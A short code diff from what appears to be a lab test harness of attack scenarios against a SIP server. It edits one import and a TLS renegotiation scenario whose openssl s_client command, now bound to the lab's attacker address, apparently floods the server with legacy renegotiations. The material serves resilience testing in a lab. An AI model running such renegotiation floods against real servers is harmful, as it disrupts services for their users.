@@ -11,7 +11,7 @@ import threading
 import time
 
 from attack import net, sip, verdicts
-from attack.lab import MEGABYTE, Scenario, of
+from attack.lab import Scenario
 from attack.verdicts import Check
 
 RATES = {"calls": 15, "refreshed": 3, "new": 3, "tcp": 5, "tls": 5}
@@ -227,7 +227,7 @@ class Renegotiation(Scenario):
     rates = RATES
 
     def attack(self, lab):
-        command = ["openssl", "s_client", "-connect", f"{sip.SERVER[0]}:{sip.TLS_PORT}", "-tls1_2", "-legacy_renegotiation"]
+        command = ["openssl", "s_client", "-connect", f"{sip.SERVER[0]}:{sip.TLS_PORT}", "-bind", f"{net.ATTACKER}:0", "-tls1_2", "-legacy_renegotiation"]
         asked, started, clients = 0, 0, [None] * 8
         while lab.left() > 0:
             for place, client in enumerate(clients):
